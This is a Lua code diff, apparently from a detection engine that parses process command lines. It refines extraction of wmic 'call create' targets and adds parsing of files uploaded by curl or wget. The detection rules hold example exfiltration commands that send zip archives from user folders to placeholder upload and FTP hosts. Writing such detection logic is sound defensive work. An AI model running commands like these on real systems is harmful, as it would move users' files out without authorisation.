@@ -83,8 +83,9 @@ local function msiexec_target(each, case)
 end
 
 local function wmic_target(each)
-    if each:says("call") and each:says("create") then return each.text:match "[cC][rR][eE][aA][tT][eE]%s*(.+)$" end
-    return nil
+    if not each:says("call") or not each:says("create") then return nil end
+    local line = each.text:match "[cC][rR][eE][aA][tT][eE]%s*(.+)$"
+    return line and line:match '^"([^"]+)"%s*$' or line
 end
 
 local function wmic_stylesheet(each)
@@ -117,9 +118,23 @@ local function upload_target(each)
     return sends(each) and names_file and url(each) or nil
 end
 
+-- The file that curl or wget is told to send: "file=@PATH", "-T PATH", "--post-file=PATH".
+local function uploaded(line)
+    return command.first(line, function(each)
+        if each.program ~= "curl" and each.program ~= "wget" then return nil end
+        local file
+        for at = 2, #each.words do
+            local word, option = each.words[at], each.words[at - 1]
+            file = file or word:match "@([^;]+)" or word:match "^%-%-[%w-]+%-file=(.+)$"
+            if option == "-T" or option == "--upload-file" then file = file or word end
+        end
+        return { name = each.program, file = file }
+    end)
+end
+
 local ROWS = {
     { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
-      verb = "upload-with-tool", means = "tool", role = "url",
+      verb = "upload-with-tool", role = "url", more = uploaded,
       match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
       other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
       no_match = [[curl -d q=1 https://search.example]] },
@@ -290,6 +305,9 @@ for _, row in ipairs(ROWS) do
                 and not say.same_program(starter, finding.process)
             local facts = { row.verb, name = row.name, means = row.means, through = other and starter or nil }
             facts[row.role or role_of(finding.key)] = finding.key
+            for role, object in pairs(row.more and row.more(finding.events[1].child.command_line) or {}) do
+                facts[role] = object
+            end
             return facts
         end,
         examples = {
